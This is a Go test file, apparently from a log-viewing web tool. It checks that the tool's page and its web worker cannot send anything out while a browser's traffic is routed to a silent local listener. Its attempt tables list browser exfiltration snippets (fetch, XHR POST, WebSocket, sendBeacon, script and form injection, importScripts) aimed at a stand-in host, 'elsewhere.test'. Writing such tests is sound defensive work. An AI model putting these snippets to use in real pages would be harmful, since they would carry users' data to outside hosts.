package web_test

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/vsslog/vsslog/internal/browsertest"
	"github.com/vsslog/vsslog/internal/slowtest"
)

// sink takes every connection that a browser makes, as its proxy, and answers none.
type sink struct {
	net.Listener
	mu    sync.Mutex
	heard []string // the first bytes of each
}

func newSink(t *testing.T) *sink {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	s := &sink{Listener: l}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			c.SetDeadline(time.Now().Add(5 * time.Second))
			head := make([]byte, 200)
			n, _ := c.Read(head)
			s.mu.Lock()
			s.heard = append(s.heard, string(head[:n]))
			s.mu.Unlock()
			c.Close()
		}
	}()
	return s
}

// own are hosts that the browser itself asks about its updates and accounts, whatever
// page is open, and although its flags forbid it.
var own = regexp.MustCompile(`^(CONNECT|GET|POST) (http://)?[a-z.-]+\.(googleapis|google|gvt1|gstatic)\.com[:/]`)

// all is what was heard, but for what the browser says of its own accord.
func (s *sink) all() (heard []string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, h := range s.heard {
		if !own.MatchString(h) {
			heard = append(heard, h)
		}
	}
	return heard
}

// proxied makes a browser send everything to the sink, what is for this machine too.
func (s *sink) proxied() []string {
	return []string{
		"--proxy-server=" + s.Addr().String(),
		"--proxy-bypass-list=<-loopback>",
		"--disable-features=OptimizationHints,MediaRouter,NetworkTimeServiceQuerying",
		"--dns-prefetch-disable",
		"--no-pings",
		"--disable-domain-reliability",
		"--disable-client-side-phishing-detection",
	}
}

// attempts are ways in which a script might send something; each gives what stopped it,
// or "" if nothing did.
var attempts = map[string]string{
	"fetch":       `fetch(URL).then(() => '', e => String(e))`,
	"XHR":         `new Promise(r => { const x = new XMLHttpRequest(); x.onload = () => r(''); x.onerror = () => r('refused'); try { x.open('POST', URL); x.send('secret'); } catch (e) { r(String(e)); } })`,
	"WebSocket":   `new Promise(r => { try { const w = new WebSocket(URL.replace('http', 'ws')); w.onopen = () => r(''); w.onerror = () => r('refused'); } catch (e) { r(String(e)); } })`,
	"EventSource": `new Promise(r => { const e = new EventSource(URL); e.onopen = () => r(''); e.onerror = () => r('refused'); })`,
}

// pageAttempts are those that only a page can make.
var pageAttempts = map[string]string{
	"beacon":     `(navigator.sendBeacon(URL, 'secret'), 'silent')`,
	"image":      `new Promise(r => { const i = new Image(); i.onload = () => r(''); i.onerror = () => r('refused'); i.src = URL; })`,
	"script":     `new Promise(r => { const s = document.createElement('script'); s.onload = () => r(''); s.onerror = () => r('refused'); s.src = URL; document.head.append(s); })`,
	"style":      `new Promise(r => { const s = document.createElement('link'); s.rel = 'stylesheet'; s.onload = () => r(''); s.onerror = () => r('refused'); s.href = URL; document.head.append(s); })`,
	"frame":      `new Promise(r => { const f = document.createElement('iframe'); f.src = URL; document.body.append(f); setTimeout(() => { f.remove(); r('silent'); }, 500); })`,
	"form":       `new Promise(r => { const f = document.createElement('form'); f.action = URL; f.method = 'post'; document.body.append(f); f.submit(); setTimeout(() => r('silent'), 500); })`,
	"inline":     `new Promise(r => { window.ran = false; const s = document.createElement('script'); s.textContent = 'window.ran = true'; document.head.append(s); r(window.ran ? '' : 'refused'); })`,
	"evaluation": `(() => { try { return Function('return ""')(); } catch (e) { return String(e); } })()`,
}

// TestNothingLeaves: with everything that a browser sends going to a listener, nothing
// arrives while files and texts are answered, nor when scripts in the page and in its
// worker try to send something on purpose.
func TestNothingLeaves(t *testing.T) {
	s := newSink(t)
	p := open(t, s.proxied()...)
	p.choose("../samples/ticket-sql-2019")
	p.Eval(`again()`, nil)
	p.Eval(`el('text').value = '0x800423f2'; askText(false)`, nil)
	p.Wait(`!el('entries').hidden`)
	p.clean()
	if heard := s.all(); len(heard) > 0 {
		t.Errorf("connections: %q", heard)
	}

	try := func(session, where, name, script string) {
		t.Helper()
		var stopped string
		script = strings.ReplaceAll(script, "URL", `'http://elsewhere.test:8080/secret'`)
		if session == "" {
			p.Eval(script, &stopped)
		} else {
			p.EvalIn(session, script, &stopped)
		}
		if stopped == "" {
			t.Errorf("%s in the %s was not stopped", name, where)
		}
	}
	if len(p.Workers) == 0 {
		t.Fatal("no worker lives that could try to send something")
	}
	engine := p.Workers[len(p.Workers)-1]
	for name, script := range attempts {
		try("", "page", name, script)
		try(engine, "worker", name, script)
	}
	try(
		engine,
		"worker",
		"importScripts",
		`(() => { try { importScripts(URL); return ''; } catch (e) { return String(e); } })()`,
	)
	for name, script := range pageAttempts {
		try("", "page", name, script)
	}
	time.Sleep(500 * time.Millisecond)
	if heard := s.all(); len(heard) > 0 {
		t.Errorf("connections: %q", heard)
	}
}

// TestSinkHears: what TestNothingLeaves rests on: a page without a policy reaches the
// listener.
func TestSinkHears(t *testing.T) {
	slowtest.Skip(t, "the page in a browser")
	s := newSink(t)
	b := browsertest.Start(t, s.proxied()...)
	path := t.TempDir() + "/open.html"
	if err := os.WriteFile(path, []byte("<!doctype html><title>open</title>"), 0o644); err != nil {
		t.Fatal(err)
	}
	b.Go("file://" + path)
	b.Eval(`fetch('http://elsewhere.test:8080/secret', { mode: 'no-cors' }).then(() => 1, () => 2)`, nil)
	for range 50 {
		if heard := s.all(); len(heard) > 0 {
			return
		}
		time.Sleep(100 * time.Millisecond)
	}
	t.Error("the listener heard nothing of a page that may connect")
}

// TestServer: from a static server the page is the only thing that is asked for, and the
// answer is the same.
func TestServer(t *testing.T) {
	slowtest.Skip(t, "the page in a browser")
	made, err := built()
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var asked []string
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		asked = append(asked, r.Method+" "+r.URL.String())
		mu.Unlock()
		http.ServeFile(w, r, made.page)
	}))
	defer server.Close()
	p := &page{Browser: browsertest.Start(t), command: made.command, address: server.URL + "/"}
	p.begin()
	p.same("../samples/veeam-ntds-2019")
	p.clean()
	mu.Lock()
	defer mu.Unlock()
	if fmt.Sprint(asked) != "[GET /]" {
		t.Errorf("the server was asked for %q", asked)
	}
}
